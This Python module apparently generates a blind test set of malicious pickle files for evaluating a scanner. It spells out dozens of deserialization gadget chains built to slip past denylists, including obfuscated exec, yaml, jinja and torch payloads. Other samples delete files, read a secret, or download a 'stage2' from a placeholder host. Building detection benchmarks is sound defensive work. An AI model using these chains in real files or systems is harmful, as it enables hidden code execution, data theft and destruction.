"""The third blind set: pickles, by the callable that does the harm."""

# ruff: noqa: E501  (payloads stand on one line)

from __future__ import annotations

import marshal
import zlib
from collections.abc import Iterator

from corpora.unseen3_base import (
    CODE,
    COMMANDS,
    EXPRESSION,
    HOST,
    SECRET,
    VICTIM,
    Build,
    G,
    Sample,
    call,
    dumps,
    new,
    npy,
)

NAMES = (
    "model.pkl",
    "clf.pickle",
    "pytorch_model.bin",
    "scaler.joblib",
    "state.dat",
    "encoder.p",
    "best.ckpt",
    "vectorizer",
)
LOAD = "import pickle; pickle.load(open(f, 'rb'))"
SH = ["sh", "-c", COMMANDS[0]]


def _stdlib() -> Iterator[tuple[str, object]]:
    """Code, by ways of the standard library that a list of os, subprocess, eval and exec does not name."""
    c = COMMANDS
    yield "posix", call("posix:system", c[1])
    yield "pty", call("pty:spawn", SH)
    yield "uuid", call("uuid:_get_command_stdout", "sh", "-c", c[2])
    yield "imaplib", call("imaplib:IMAP4_stream", c[3])
    yield "mailcap", call("mailcap:findmatch", {"a/b": [{"view": "true", "test": c[0]}]}, "a/b")
    yield "pydoc-pipe", call("pydoc:pipepager", "weights", c[4] + "; cat >/dev/null")
    yield (
        "webbrowser",
        call(call("builtins:getattr", call("webbrowser:GenericBrowser", ["touch", "%s"]), "open"), "/tmp/x"),
    )
    yield "timeit", call("timeit:timeit", CODE[0], "pass", G("time:perf_counter"), 1)
    yield "cprofile", call("cProfile:run", CODE[1], "/dev/null")
    yield "bdb", call(call("operator:methodcaller", "run", CODE[2]), call("bdb:Bdb"))
    yield "trace", call(call("operator:methodcaller", "run", CODE[3]), call("trace:Trace", 0, 0))
    yield (
        "code",
        call(
            call("operator:methodcaller", "runsource", CODE[1], "<input>", "exec"), call("code:InteractiveInterpreter")
        ),
    )
    yield "runpy", call("runpy:_run_code", call("builtins:compile", CODE[4], "m", "exec"), {})
    yield (
        "marshal",
        call(
            call(
                "types:FunctionType",
                call("marshal:loads", marshal.dumps(compile(CODE[1], "a", "exec"))),
                call("builtins:globals"),
            )
        ),
    )
    yield "dataclass", call("dataclasses:_create_fn", "f", [f"a={EXPRESSION}"], ["pass"])
    yield "site", call("site:addpackage", ".", "evil.pth", None)
    yield "multiprocessing", call("multiprocessing.util:spawnv_passfds", b"/bin/sh", [b"sh", b"-c", c[0].encode()], [])
    yield "asyncio", call("asyncio.runners:run", call("asyncio.subprocess:create_subprocess_shell", c[0] + "; sleep 0"))
    yield (
        "threading-timer",
        call(call("operator:methodcaller", "run"), call("threading:Timer", 0, G("os:system"), [c[0]])),
    )
    yield (
        "executor",
        call(
            call("operator:methodcaller", "submit", G("os:system"), c[0]),
            call("concurrent.futures.thread:ThreadPoolExecutor", 1),
        ),
    )
    yield "map-list", call("builtins:list", call("builtins:map", G("os:system"), [c[5]]))
    yield "filter-set", call("builtins:set", call("builtins:filter", G("os:system"), [c[0]]))
    yield "starmap-deque", call("collections:deque", call("itertools:starmap", G("os:system"), [(c[0],)]))
    yield "partial-chain", call(call("functools:partial", call("functools:partial", G("os:system")), c[0]))
    yield "resolve-name", call(call("pkgutil:resolve_name", "os:system"), c[6])
    yield (
        "sys-modules-item",
        call(call("builtins:getattr", call("operator:getitem", G("sys:modules"), "os"), "system"), c[2]),
    )
    yield (
        "vars",
        call(call("operator:getitem", call("builtins:vars", call("importlib:import_module", "os")), "system"), c[0]),
    )
    yield "dotted", call("shutil:os.system", c[0])
    yield "weakref", call("weakref:finalize", call("builtins:frozenset"), G("os:system"), c[0])
    yield "atexit", call("atexit:register", G("os:system"), c[0])
    yield "execv", call("os:posix_spawn", "/bin/sh", ["sh", "-c", c[0]], {"PATH": "/bin:/usr/bin"})
    yield (
        "logging-config",
        call(
            "logging.config:dictConfig",
            {"version": 1, "handlers": {"h": {"()": "os.system", "command": c[0]}}, "root": {"handlers": ["h"]}},
        ),
    )
    yield "tcl", call(call("operator:methodcaller", "eval", "exec touch /tmp/x"), call("tkinter:Tcl"))
    yield "dotted-chain", call("logging:os.popen", c[0])
    yield "getattr-import", call(call("builtins:getattr", call("builtins:__import__", "os"), "system"), c[1])
    yield "ctypes-call", call(call("operator:methodcaller", "system", b"touch /tmp/x"), call("ctypes:CDLL", None))
    yield (
        "sorted-partial",
        call(
            call("functools:partial", G("builtins:print")),
            call("builtins:list", call("builtins:map", G("os:popen"), [c[0]])),
        ),
    )
    yield "breakpoint-hook", call("pdb:run", CODE[1].replace("\n", ";"))
    yield (
        "property-lambda",
        call("builtins:eval", call("operator:concat", "__import__('os').", "system('touch /tmp/x')")),
    )
    yield (
        "exec-joined",
        call(
            "builtins:exec",
            call(call("operator:methodcaller", "join", ["import os", "os.system('touch /tmp/x')"]), ";"),
        ),
    )
    yield "exec-zlib", call("builtins:exec", call("zlib:decompress", zlib.compress(CODE[0].encode())))
    yield (
        "exec-xor",
        call(
            "builtins:exec",
            call(
                "builtins:bytes",
                call("builtins:map", G("operator:xor"), [b ^ 42 for b in CODE[1].encode()], [42] * len(CODE[1])),
            ),
        ),
    )
    yield "import-beside", call("runpy:run_path", "tokenization.py")


def _libraries() -> Iterator[tuple[str, object]]:
    """Code, by libraries that lie beside a model."""
    c = COMMANDS
    yield (
        "scipy-rv-state",
        Build(new("scipy.stats._continuous_distns:norm_gen"), {"_parse_arg_template": CODE[1], "name": "norm"}),
    )
    yield (
        "scipy-rv-discrete-state",
        Build(
            new("scipy.stats._discrete_distns:poisson_gen"),
            {
                "_parse_arg_template": "def _parse_args(self, *a):\n    pass\n" + CODE[0],
                "moment_type": 1,
                "badvalue": 0.0,
                "name": "poisson",
                "a": 0,
                "b": 10,
                "shapes": "mu",
                "_random_state": None,
            },
        ),
    )
    yield "sympy-newobj", new("sympy.functions.elementary.complexes:Abs", EXPRESSION)
    yield "sympy-sin", new("sympy.functions.elementary.trigonometric:sin", EXPRESSION)
    yield "sympify", call("sympy.core.sympify:sympify", EXPRESSION)
    yield "sympy-lambdify", call(call("sympy.utilities.lambdify:lambdify", "x", EXPRESSION), 1)
    yield "sympy-point", new("sympy.geometry.point:Point2D", EXPRESSION, "1")
    yield "sympy-matrix", call("sympy.matrices.dense:MutableDenseMatrix", [[EXPRESSION]])
    yield "numpy-runstring", call("numpy.testing._private.utils:runstring", CODE[1], {})
    yield "numpy-measure", call("numpy.testing:measure", CODE[0], 1)
    yield "f2py-myeval", call("numpy.f2py.crackfortran:myeval", EXPRESSION)
    yield (
        "torch-fx",
        call(
            "torch.fx.graph_module:reduce_graph_module",
            {"_code": f"\n{CODE[0]}\ndef forward(self, x):\n    return x\n"},
            "",
        ),
    )
    yield (
        "torch-fx-import",
        call(
            "torch.fx.graph_module:reduce_graph_module",
            {"_code": "\ndef forward(self, x):\n    return x\n"},
            CODE[1] + "\n",
        ),
    )
    yield (
        "torch-fx-default",
        call("torch.fx.graph_module:_forward_from_src", f"def forward(self, x={EXPRESSION}):\n    return x\n", {}),
    )
    yield "torch-from-type", call("torch._tensor:_rebuild_from_type_v2", G("os:system"), G("torch:Tensor"), (c[0],), {})
    yield "torch-load-from-bytes", call("torch.storage:_load_from_bytes", dumps(call("os:system", c[0]), 2))
    yield "torch-collect-env", call("torch.utils.collect_env:run", c[0])
    yield "torch-cpp", call("torch.utils.cpp_extension:subprocess.call", SH)
    yield (
        "torch-runtest",
        call(
            "torch.distributed.elastic.multiprocessing.subprocess_handler.handlers:get_subprocess_handler",
            "/bin/sh",
            ("-c", c[0]),
            {"PATH": "/bin:/usr/bin"},
            "/dev/null",
            "/dev/null",
            0,
        ),
    )
    yield "loky-forkexec", call("joblib.externals.loky.backend.fork_exec:fork_exec", ["/bin/sh", "-c", c[0]], [])
    yield (
        "cloudpickle-subimport",
        call(call("builtins:getattr", call("cloudpickle.cloudpickle:subimport", "os"), "system"), c[0]),
    )
    yield "dill-eval", call("dill._dill:_eval_repr", EXPRESSION)
    yield "dill-loads", call("dill:loads", dumps(call("os:system", c[0]), 2))
    yield (
        "jsonpickle",
        call(
            "jsonpickle.unpickler:decode",
            '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["touch /tmp/x"]}]}',
        ),
    )
    yield "yaml-unsafe", call("yaml:unsafe_load", f"!!python/object/apply:os.system ['{c[0]}']")
    yield "yaml-loader", call("yaml:load", f"!!python/object/new:os.system ['{c[0]}']", G("yaml:UnsafeLoader"))
    yield "hydra-locate", call(call("hydra.utils:get_method", "os.system"), c[0])
    yield (
        "jinja-template",
        call(
            call("operator:methodcaller", "render"),
            call("jinja2:Template", "{{ cycler.__init__.__globals__.os.popen('touch /tmp/x').read() }}"),
        ),
    )
    yield "setuptools-spawn", call("setuptools._distutils.spawn:spawn", SH)
    yield "psutil-popen", call("psutil:Popen", SH)
    yield "mlflow-exec", call("mlflow.utils.process:_exec_cmd", SH)
    yield "sklearn-load-files", call("sklearn.utils._testing:assert_run_python_script_without_output", CODE[1])
    yield "pandas-read-pickle", call("pandas.io.pickle:read_pickle", "weights.pkl")
    yield "hf-notebook", call("huggingface_hub.utils._subprocess:run_subprocess", ["touch", "/tmp/x"])
    yield "torch-hub", call("torch.hub:_load_local", ".", "net")
    yield "numpy-load", call("numpy:load", "weights.npy", None, True)
    yield "hydra-method", call(call("hydra.utils:get_object", "os.system"), c[0])
    yield (
        "pandas-eval",
        call("pandas.core.computation.eval:eval", "@__builtins__['__import__']('os').system('touch /tmp/x')"),
    )
    yield "networkx-pickle", call("sympy.parsing.sympy_parser:eval_expr", EXPRESSION, {}, {})
    yield "sympy-parse", call("sympy.parsing.sympy_parser:parse_expr", EXPRESSION)
    yield "sympy-symbols-S", call(G("sympy.core.singleton:S"), EXPRESSION)
    yield "sympy-poly", new("sympy.polys.polytools:Poly", EXPRESSION)
    yield "torch-guards-sympy", call("torch.utils._sympy.functions:sympy.sympify", EXPRESSION)
    yield "keras-unpickle", call("transformers.utils.import_utils:importlib.import_module", "evilpkg")
    yield (
        "scipy-frozen",
        Build(
            new("scipy.stats._continuous_distns:beta_gen"),
            {
                "_parse_arg_template": "def _parse_args(self, a=exec(\"import os; os.system('touch /tmp/x')\")):\n    pass\ndef _parse_args_rvs(self):\n    pass\ndef _parse_args_stats(self):\n    pass\n",
                "name": "beta",
            },
        ),
    )


def _elsewhere() -> Iterator[tuple[str, str, object]]:
    """Reading, writing, deleting; and what talks to a network."""
    yield "file", "open-write", call(call("operator:methodcaller", "write", "pwned"), call("io:open", VICTIM, "w"))
    yield "file", "unlink", call("os:unlink", VICTIM)
    yield "file", "rmtree", call("shutil:rmtree", "/tmp/victim")
    yield "file", "truncate", call("os:truncate", VICTIM, 0)
    yield "file", "memmap", call("numpy:memmap", VICTIM, "u1", "w+", 0, (16,))
    yield "file", "np-tofile", call("numpy:savetxt", VICTIM, [1.0])
    yield "file", "file-handler", call("logging:FileHandler", VICTIM, "w")
    yield "file", "rotating", call("logging.handlers:RotatingFileHandler", VICTIM, "w")
    yield "file", "hdfstore", call("pandas:HDFStore", "/tmp/x", "w")
    yield "file", "gzip-open", call("gzip:GzipFile", VICTIM, "wb")
    yield "file", "zip-write", call("zipfile:ZipFile", VICTIM, "w")
    yield "file", "h5py", call("h5py._hl.files:File", VICTIM, "w")
    yield "file", "torch-save", call("torch.serialization:save", [1], VICTIM)
    yield "file", "read-secret", call("sklearn.datasets._svmlight_format_io:load_svmlight_file", SECRET)
    yield "file", "genfromtxt", call("numpy:fromfile", SECRET, "u1")
    yield "file", "linecache", call("linecache:getlines", SECRET)
    yield "file", "fileinput", call("builtins:list", call("fileinput:FileInput", SECRET))
    yield (
        "file",
        "fsspec-state",
        Build(
            new("fsspec.implementations.local:LocalFileOpener"),
            {"path": SECRET, "mode": "rb", "autocommit": True, "compression": None, "loc": 0, "blocksize": 1},
        ),
    )
    yield "file", "mmap-tables", call("tables:open_file", VICTIM, "w")
    yield (
        "file",
        "sqlite-file",
        call(call("operator:methodcaller", "execute", "create table a(b)"), call("sqlite3:connect", "/tmp/x")),
    )
    yield "network", "urlretrieve", call("urllib.request:urlretrieve", f"http://{HOST}/stage2", "/tmp/y")
    yield "network", "read-csv", call("pandas:read_csv", f"http://{HOST}/beacon.csv")
    yield "network", "socket", call("socket:create_connection", (HOST, 80))
    yield "network", "hub-download", call("torch.hub:download_url_to_file", f"http://{HOST}/w.pt", "/tmp/y")
    yield (
        "network",
        "http-handler",
        call(
            call("operator:methodcaller", "emit", call("logging:makeLogRecord", {})),
            call("logging.handlers:HTTPHandler", HOST, "/"),
        ),
    )
    yield "network", "smtp", call("smtplib:SMTP", HOST, 80)
    yield "network", "requests", call("requests.api:get", f"http://{HOST}/")
    yield "network", "ftp", call("ftplib:FTP", HOST)


DOTTED = {"torch-guards-sympy", "keras-unpickle", "torch-cpp"}
BESIDE = {
    "import-beside": {"tokenization.py": CODE[0].encode()},
    "keras-unpickle": {"evilpkg/__init__.py": CODE[0].encode()},
    "numpy-load": {
        "weights.npy": npy(
            "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", dumps(call("os:system", COMMANDS[0]))
        )
    },
    "site": {"evil.pth": CODE[0].encode() + b"\n"},
    "torch-hub": {"hubconf.py": CODE[0].encode() + b"\ndef net():\n    return 1\n"},
    "setuptools-run-setup": {"setup.py": CODE[0].encode()},
    "pandas-read-pickle": {"weights.pkl": dumps(call("os:system", COMMANDS[0]), 2)},
    "transformers-module": {"net.py": CODE[0].encode() + b"\nclass Net:\n    pass\n"},
}


def samples() -> Iterator[Sample]:
    rows = [("code", n, v) for n, v in _stdlib()] + [("code", n, v) for n, v in _libraries()] + list(_elsewhere())
    for index, (effect, name, value) in enumerate(rows):
        protocol = 4 if "dotted" in name or name in DOTTED else (4, 2, 0, 3, 5)[index % 5]
        files = {NAMES[index % len(NAMES)]: dumps(value, protocol), **BESIDE.get(name, {})}
        yield Sample(f"pickle-{effect}/{name}", files, LOAD, effect)
